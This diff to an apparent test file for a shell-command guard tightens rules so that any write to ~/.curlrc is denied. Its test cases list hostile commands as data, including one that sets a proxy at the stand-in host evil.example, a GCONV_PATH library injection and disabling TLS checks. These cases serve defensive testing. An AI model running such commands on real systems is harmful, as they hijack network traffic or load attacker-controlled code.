@@ -186,13 +186,14 @@ describe('rules: the machine, the repository and the guard, round 6 (issue #18)'
     { cmd: 'tar xf /tmp/x.tar -C storage', decision: 'ask', reason: /git cannot bring back/ },
     { cmd: 'unzip -o /tmp/x.zip -d storage', decision: 'ask' },
     { cmd: 'NODE_TLS_REJECT_UNAUTHORIZED=0 npm install', decision: 'ask', reason: /TLS/ },
-    { cmd: "echo 'proxy=http://evil.example:8080' >> ~/.curlrc", decision: 'ask' },
+    // ~/.curlrc is read by every later curl, which the guard judges without it: any write is denied (round 7 perimeter).
+    { cmd: "echo 'proxy=http://evil.example:8080' >> ~/.curlrc", decision: 'deny' },
     { cmd: 'GCONV_PATH=/tmp iconv -l', decision: 'deny' },
     { cmd: 'fallocate -p -o 0 -l 10M storage/app/invoice.pdf', decision: 'ask' },
     { cmd: 'tar -xf /tmp/x.tar -C /tmp/out', decision: 'allow' },
     { cmd: 'unzip /tmp/x.zip -d storage', decision: 'allow' },
     { cmd: 'NODE_TLS_REJECT_UNAUTHORIZED=1 npm install', decision: 'allow' },
-    { cmd: "echo 'silent' >> ~/.curlrc", decision: 'allow' },
+    { cmd: "echo 'silent' >> ~/.curlrc", decision: 'deny' },
     { cmd: 'iconv -l', decision: 'allow' },
   ]);
 });
